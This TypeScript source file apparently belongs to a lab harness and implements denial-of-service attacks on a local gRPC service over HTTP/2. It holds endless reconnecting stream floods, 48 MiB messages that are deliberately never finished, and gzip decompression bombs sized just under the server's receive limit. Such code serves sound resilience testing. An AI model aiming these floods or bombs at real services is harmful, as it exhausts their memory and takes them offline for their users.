/** Attacks that keep to HTTP/2 and abuse what it carries. */
import { connect, type ClientHttp2Session, type ClientHttp2Stream } from 'node:http2';
import { gzipSync } from 'node:zlib';
import { ALS_PATHS } from '../../src/lab/fleet/http2-bytes.js';

const STREAMS = 32;
/** The shipped `max_recv_msg_size` is 50 MiB. */
const LARGE_BYTES = 48 * 1024 * 1024;

/** Keeps `STREAMS` calls open on a connection, each of which `say` works on; begins anew when they or it end. */
function keepCalling(
  port: number,
  headers: Readonly<Record<string, string>>,
  say: (call: ClientHttp2Stream) => void,
): void {
  const session = connect(`http://127.0.0.1:${port}`);
  session.on('error', () => undefined);
  session.on('close', () => {
    setImmediate(keepCalling, port, headers, say);
  });
  for (let count = 0; count < STREAMS; count++) openCall(session, headers, say);
}

function openCall(
  session: ClientHttp2Session,
  headers: Readonly<Record<string, string>>,
  say: (call: ClientHttp2Stream) => void,
): void {
  if (session.closed || session.destroyed) return;
  const call = session.request({
    ':method': 'POST',
    ':path': ALS_PATHS.v3,
    'content-type': 'application/grpc',
    te: 'trailers',
    ...headers,
  });
  call.on('error', () => undefined);
  call.on('close', () => {
    setImmediate(openCall, session, headers, say);
  });
  call.resume();
  say(call);
}

function envelope(isCompressed: boolean, length: number): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt8(isCompressed ? 1 : 0, 0);
  head.writeUInt32BE(length, 1);
  return head;
}

/** Begins large messages and sends all of them but the end. */
export function sendUnfinished(port: number): void {
  const part = Buffer.alloc(64 * 1024);
  keepCalling(port, {}, (call) => {
    let sent = 0;
    call.write(envelope(false, LARGE_BYTES));
    const goOn = (): void => {
      while (sent + part.length < LARGE_BYTES && !call.destroyed) {
        sent += part.length;
        if (!call.write(part)) return;
      }
    };
    call.on('drain', goOn);
    goOn();
  });
}

/** Sends messages of 48 KB that inflate to 48 MiB. */
export function sendInflating(port: number): void {
  const bomb = gzipSync(Buffer.alloc(LARGE_BYTES), { level: 9 });
  keepCalling(port, { 'grpc-encoding': 'gzip' }, (call) => {
    call.end(Buffer.concat([envelope(true, bomb.length), bomb]));
  });
}
